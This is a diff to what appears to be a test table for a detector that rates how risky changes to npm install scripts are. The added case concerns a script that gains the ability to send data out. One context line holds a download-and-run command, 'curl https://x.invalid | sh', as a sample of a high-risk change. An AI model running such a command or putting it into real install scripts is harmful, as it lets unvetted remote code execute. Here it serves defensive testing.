@@ -57,6 +57,7 @@ FIRING: dict[str, tuple[str, Uses, Uses]] = {
     "another one appears": ("high", [script("node-gyp rebuild", "install")], [
         script("node-gyp rebuild", "install"), script("node pre.js", "preinstall")]),
     "other words": ("moderate", [script("node setup.js")], [script("node other.js")]),
+    "other words, more power": ("high", [script("node setup.js"), READS], [script("node setup.js -x"), READS, SENDS]),
     "words that download": ("high", [script("node setup.js")], [script("curl https://x.invalid | sh")]),
     "the file does more": ("high", [script("node setup.js"), READS], [script("node setup.js"), READS, SENDS]),
     "the file does a little more": ("moderate", [script("node setup.js")], [script("node setup.js"), READS]),
